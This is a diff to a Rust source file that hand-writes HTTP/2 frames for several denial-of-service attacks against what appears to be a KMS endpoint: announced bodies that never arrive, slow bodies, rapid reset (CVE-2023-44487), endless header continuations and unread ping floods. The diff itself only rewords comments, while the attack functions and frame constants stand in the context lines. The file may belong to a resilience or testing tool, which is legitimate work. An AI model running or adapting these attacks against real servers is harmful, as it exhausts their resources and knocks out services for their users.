@@ -1,4 +1,4 @@
-//! Attacks in HTTP/2. Frames are written by hand (RFC 9113, section 4.1), since what is sent here no library sends.
+//! Attacks over HTTP/2. Frames are written by hand (RFC 9113, section 4.1), because no library sends such frames.
 
 use std::sync::Arc;
 use std::time::Duration;
@@ -21,24 +21,24 @@ const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 const ACK: u8 = 1;
 
-/// What the client says first (RFC 9113, section 3.4).
+/// The client's connection preface (RFC 9113, section 3.4).
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 /// `CANCEL`
 const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
-/// Streams that announce bodies, on one connection: as many as the server allows.
+/// Streams that announce bodies on one connection: as many as the server allows.
 const STREAMS: u32 = 32;
 /// Bytes that each announces: the most that an unknown caller may.
 const ANNOUNCED: &str = "65536";
-/// From one group of announcements to the next on the same connection.
+/// Interval between groups of announcements on the same connection.
 const NEXT_GROUP: Duration = Duration::from_secs(5);
 /// Streams that are opened and reset in one batch.
 const RESETS: u32 = 50;
-/// Pause between such groups.
+/// Pause between such batches.
 const PAUSE: Duration = Duration::from_millis(100);
-/// Bytes of a frame of a head that never ends.
+/// Bytes in a frame of a head that never ends.
 const PIECE: usize = 8 * 1024;
 
-/// Streams that announce bodies which never come.
+/// Streams that announce bodies and never send them.
 pub(super) async fn announced_bodies(attack: Arc<Attack>) -> io::Result<()> {
     talk(attack, async |attack, write| {
         let mut head = kms_head();
@@ -57,7 +57,7 @@ pub(super) async fn announced_bodies(attack: Arc<Attack>) -> io::Result<()> {
     .await
 }
 
-/// The same with a byte of each body a second.
+/// The same with a byte of each body each second.
 pub(super) async fn slow_bodies(attack: Arc<Attack>) -> io::Result<()> {
     talk(attack, async |attack, write| {
         let mut head = kms_head();
@@ -75,7 +75,7 @@ pub(super) async fn slow_bodies(attack: Arc<Attack>) -> io::Result<()> {
     .await
 }
 
-/// Requests that are taken back at once (CVE-2023-44487).
+/// Requests that are cancelled at once (CVE-2023-44487).
 pub(super) async fn rapid_reset(attack: Arc<Attack>) -> io::Result<()> {
     talk(attack, async |attack, write| {
         let head = kms_head();
@@ -108,7 +108,7 @@ pub(super) async fn continuations(attack: Arc<Attack>) -> io::Result<()> {
     .await
 }
 
-/// Questions whose answers are not read.
+/// Pings whose answers are not read.
 pub(super) async fn unread_pings(attack: Arc<Attack>) -> io::Result<()> {
     let (_read, mut write) = begin(&attack).await?;
     let pings = frame(PING, 0, 0, b"besieged").repeat(200);
@@ -120,7 +120,7 @@ pub(super) async fn unread_pings(attack: Arc<Attack>) -> io::Result<()> {
 
 type Write = WriteHalf<TlsStream<TcpStream>>;
 
-/// Writes by `say` and reads what comes, until the other side ends.
+/// Sends frames from `say` and reads what comes, until the other side ends.
 async fn talk(
     attack: Arc<Attack>,
     say: impl AsyncFnOnce(&Attack, &mut Write) -> io::Result<()>,
@@ -134,7 +134,7 @@ async fn talk(
 
 async fn begin(attack: &Attack) -> io::Result<(ReadHalf<TlsStream<TcpStream>>, Write)> {
     let (read, mut write) = io::split(attack.tls_http2().await?);
-    // The server's settings are taken before they are seen: nothing here depends on them.
+    // Acknowledges the server's settings before it sees them: nothing here depends on them.
     let first = [PREFACE, &frame(SETTINGS, 0, 0, &[]), &frame(SETTINGS, ACK, 0, &[])].concat();
     send(attack, &mut write, 0, &first).await?;
     Ok((read, write))
@@ -156,7 +156,7 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     bytes
 }
 
-/// The head of a call of KMS that nobody has signed.
+/// The head of an unsigned KMS call.
 fn kms_head() -> Vec<u8> {
     [
         (":method", "POST"),
